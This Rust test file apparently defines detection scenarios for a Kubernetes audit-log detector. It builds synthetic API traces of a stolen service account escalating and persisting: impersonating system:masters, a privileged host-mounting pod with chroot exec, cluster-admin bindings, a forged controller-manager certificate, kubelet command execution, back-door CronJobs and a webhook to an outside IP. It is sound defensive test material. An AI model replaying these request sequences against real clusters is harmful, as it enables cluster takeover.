//! S33-S47, more rights, other places, and what stays behind.

use super::Expect::{Missed, Told};
use super::Scenario;
use super::actor::Actor;
use super::world::{CURL, KUBECTL, MINUTE, Trace, controller, node_a, press};
use serde_json::{Value, json};
use tokentrail::detect::Severity::{Critical, High, Info, Low, Medium};

const RBAC: &str = "/apis/rbac.authorization.k8s.io/v1";
const SENSITIVE: &[&str] = &["sensitive-operation"];
const BOTH: &[&str] = &["sensitive-operation", "dangerous-request"];

scenarios! {
    S33 "Impersonation": impersonate,
        known Told(SENSITIVE, High),
        cold Told(SENSITIVE, Low);
    S34 "A privileged pod with the node's disk": |t| privileged_pod(t, &press().with(KUBECTL)),
        known Told(BOTH, Critical),
        cold Told(&["dangerous-request"], Low);
    S35 "A sidecar in a running Deployment": patch_deployment,
        known Told(&["dangerous-request", "unexpected-agent"], Medium),
        cold Missed("in the first hours of a log everything is new, and this wins little");
    S36 "DaemonSet and CronJob as back doors": back_doors,
        known Told(&["dangerous-request", "unexpected-agent"], Medium),
        cold Told(&["dangerous-request"], Info);
    S37 "Binds itself to cluster-admin": bind_admin,
        known Told(SENSITIVE, High),
        cold Told(SENSITIVE, Low);
    S38 "An admin role, an account in kube-system, and their binding": admin_account,
        known Told(BOTH, Critical),
        cold Told(BOTH, Low);
    S39 "An existing role widened to everything": widen,
        known Told(BOTH, Medium),
        cold Told(&["sensitive-operation"], Low);
    S40 "A client certificate of kube-controller-manager": certificate,
        known Told(BOTH, Medium),
        cold Told(BOTH, Low);
    S41 "Kubelets through the API server": kubelet_by_proxy,
        known Told(SENSITIVE, Medium),
        cold Told(SENSITIVE, Low);
    S42 "A kubelet directly, with the account's token": kubelet_directly,
        known Told(&["dangerous-request"], Low),
        cold Told(&["dangerous-request"], Low);
    S43 "An ephemeral debug container": debug_container,
        known Told(SENSITIVE, Medium),
        cold Told(&["sensitive-operation"], Info);
    S44 "Port-forward and proxy to a Service": pivot,
        known Told(&["sensitive-operation"], High),
        cold Told(&["sensitive-operation"], Info);
    S45 "A mutating webhook": webhook,
        known Told(SENSITIVE, Medium),
        cold Told(&["sensitive-operation"], Info);
    S46 "CoreDNS rewritten": |t| rewrite(t, "coredns"),
        known Told(SENSITIVE, Medium),
        cold Told(SENSITIVE, Low);
    S47 "aws-auth edited": |t| rewrite(t, "aws-auth"),
        known Told(SENSITIVE, Medium),
        cold Told(SENSITIVE, Low);
}

fn impersonate(trace: &mut Trace) {
    let thief = press().with(KUBECTL);
    let account = thief.clone().acting_as(
        "system:serviceaccount:kube-system:default",
        &[
            "system:serviceaccounts",
            "system:serviceaccounts:kube-system",
            "system:authenticated",
        ],
    );
    trace.ask(
        &account,
        "GET /api/v1/namespaces/kube-system/secrets?limit=500 200",
    );
    trace.ask(
        &thief.acting_as("x", &["system:masters", "system:authenticated"]),
        "GET /api/v1/nodes?limit=500 200",
    );
}

pub fn privileged_pod(trace: &mut Trace, thief: &Actor) {
    let pod = json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "tune", "namespace": "orchard"}, "spec": {
        "containers": [{"name": "x", "image": "registry.example/busybox:1", "command": ["sleep", "9999"],
            "securityContext": {"privileged": true}, "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
        "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}});
    trace.send(thief, "POST /api/v1/namespaces/orchard/pods 201", &pod);
    trace.ask(thief, "GET /api/v1/namespaces/orchard/pods/tune 200");
    let command = "command=chroot&command=%2Fhost&container=x&stdout=true";
    trace.ask(
        thief,
        &format!("POST /api/v1/namespaces/orchard/pods/tune/exec?{command} 101"),
    );
    trace.ask(thief, "DELETE /api/v1/namespaces/orchard/pods/tune 200");
}

fn workload(name: &str) -> Value {
    json!({"metadata": {"name": name, "namespace": "orchard"}, "spec": {"template": {"spec": {
        "serviceAccountName": "cellar-admin", "containers": [{"name": "side", "image": "registry.example/side:1"}]}}}})
}

fn patch_deployment(trace: &mut Trace) {
    let thief = press().with(KUBECTL);
    trace.ask(
        &thief,
        "GET /apis/apps/v1/namespaces/orchard/deployments/web 200",
    );
    trace.send(
        &thief,
        "PATCH /apis/apps/v1/namespaces/orchard/deployments/web 200",
        &workload("web"),
    );
    let deployments = controller("deployment-controller");
    trace.other(
        &deployments,
        "POST /apis/apps/v1/namespaces/orchard/replicasets 201",
        Some(&workload("web-1")),
    );
    let pod = json!({"metadata": {"name": "web-1-x", "namespace": "orchard"}, "spec": {"containers": [{"name": "side", "image": "i"}]}});
    trace.other(
        &controller("replicaset-controller"),
        "POST /api/v1/namespaces/orchard/pods 201",
        Some(&pod),
    );
}

fn back_doors(trace: &mut Trace) {
    let thief = press().with(KUBECTL);
    trace.send(
        &thief,
        "POST /apis/apps/v1/namespaces/orchard/daemonsets 201",
        &workload("agent"),
    );
    let body = json!({"metadata": {"name": "tidy", "namespace": "orchard"}, "spec": {"schedule": "*/5 * * * *",
        "jobTemplate": {"spec": {"template": {"spec": {"containers": [{"name": "x", "image": "registry.example/x:1"}]}}}}}});
    trace.send(
        &thief,
        "POST /apis/batch/v1/namespaces/orchard/cronjobs 201",
        &body,
    );
    trace.wait(5 * MINUTE);
    trace.other(
        &controller("cronjob-controller"),
        "POST /apis/batch/v1/namespaces/orchard/jobs 201",
        Some(&workload("tidy-1")),
    );
}

fn binding(name: &str, role: &str, namespace: &str, account: &str) -> Value {
    json!({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name},
        "subjects": [{"kind": "ServiceAccount", "name": account, "namespace": namespace}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role}})
}

pub fn bind_admin(trace: &mut Trace) {
    let body = binding("helpers", "cluster-admin", "orchard", "press");
    trace.send(
        &press().with(KUBECTL),
        &format!("POST {RBAC}/clusterrolebindings 201"),
        &body,
    );
}

fn admin_account(trace: &mut Trace) {
    let thief = press().with(KUBECTL);
    let role = json!({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "helper"},
        "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
    trace.send(&thief, &format!("POST {RBAC}/clusterroles 201"), &role);
    let account = json!({"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": "helper", "namespace": "kube-system"}});
    trace.send(
        &thief,
        "POST /api/v1/namespaces/kube-system/serviceaccounts 201",
        &account,
    );
    let body = binding("helper", "helper", "kube-system", "helper");
    trace.send(
        &thief,
        &format!("POST {RBAC}/clusterrolebindings 201"),
        &body,
    );
    let secret = json!({"metadata": {"name": "helper-token"}});
    trace.send(
        &thief,
        "POST /api/v1/namespaces/kube-system/secrets 201",
        &secret,
    );
    trace.ask(
        &thief,
        "GET /api/v1/namespaces/kube-system/secrets/helper-token 200",
    );
}

fn widen(trace: &mut Trace) {
    let thief = press().with(CURL);
    trace.ask(&thief, &format!("GET {RBAC}/clusterroles/trees 200"));
    let everything = json!({"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
    trace.send(
        &thief,
        &format!("PATCH {RBAC}/clusterroles/trees 200"),
        &everything,
    );
}

fn certificate(trace: &mut Trace) {
    let thief = press().with(KUBECTL);
    let requests = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
    let body = json!({"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": "helper"},
        "spec": {"request": "", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}});
    trace.send(&thief, &format!("POST {requests} 201"), &body);
    trace.send(
        &thief,
        &format!("PUT {requests}/helper/approval 200"),
        &body,
    );
    trace.ask(&thief, &format!("GET {requests}/helper 200"));
    let new = Actor::certified("system:kube-controller-manager", "10.61.1.10", KUBECTL);
    trace.ask(&new, "GET /api/v1/secrets?limit=500 200");
}

fn kubelet_by_proxy(trace: &mut Trace) {
    let thief = press().with(CURL);
    trace.ask(&thief, "GET /api/v1/nodes/node-b/proxy/runningpods/ 200");
    trace.ask(
        &thief,
        "POST /api/v1/nodes/node-b/proxy/run/orchard/cider-5b8f-c3/cider?cmd=id 200",
    );
}

fn kubelet_directly(trace: &mut Trace) {
    let review = json!({"kind": "TokenReview", "apiVersion": "authentication.k8s.io/v1", "metadata": {},
        "spec": {"token": "not-a-token"}, "status": {"user": {}}});
    trace.send(
        &node_a(),
        "POST /apis/authentication.k8s.io/v1/tokenreviews 201",
        &review,
    );
    let right = json!({"kind": "SubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {}, "spec": {
        "resourceAttributes": {"verb": "get", "version": "v1", "resource": "nodes", "subresource": "proxy", "name": "node-a"},
        "user": "system:serviceaccount:orchard:press", "groups": ["system:serviceaccounts"]}, "status": {"allowed": false}});
    trace.send(
        &node_a(),
        "POST /apis/authorization.k8s.io/v1/subjectaccessreviews 201",
        &right,
    );
}

fn debug_container(trace: &mut Trace) {
    let thief = press().with(KUBECTL);
    let pod = "/api/v1/namespaces/orchard/pods/web-0";
    let body = json!({"spec": {"ephemeralContainers": [{"name": "debugger", "image": "registry.example/busybox:1", "targetContainerName": "web"}]}});
    trace.send(
        &thief,
        &format!("PATCH {pod}/ephemeralcontainers 200"),
        &body,
    );
    trace.ask(
        &thief,
        &format!("GET {pod}/attach?container=debugger&stdin=true&stdout=true&tty=true 101"),
    );
}

fn pivot(trace: &mut Trace) {
    let thief = press().with(KUBECTL);
    trace.ask(
        &thief,
        "GET /api/v1/namespaces/orchard/pods/db-0/portforward 101",
    );
    trace.ask(
        &thief,
        "GET /api/v1/namespaces/orchard/services/admin:80/proxy/ 200",
    );
}

fn webhook(trace: &mut Trace) {
    let body = json!({"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
        "metadata": {"name": "helper"}, "webhooks": [{"name": "helper.example.org", "clientConfig": {"url": "https://203.0.113.66/"},
        "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}]}]});
    trace.send(
        &press().with(KUBECTL),
        "POST /apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations 201",
        &body,
    );
}

fn rewrite(trace: &mut Trace, name: &str) {
    let thief = press().with(KUBECTL);
    let map = format!("/api/v1/namespaces/kube-system/configmaps/{name}");
    trace.ask(&thief, &format!("GET {map} 200"));
    trace.ask(&thief, &format!("PATCH {map} 200"));
}
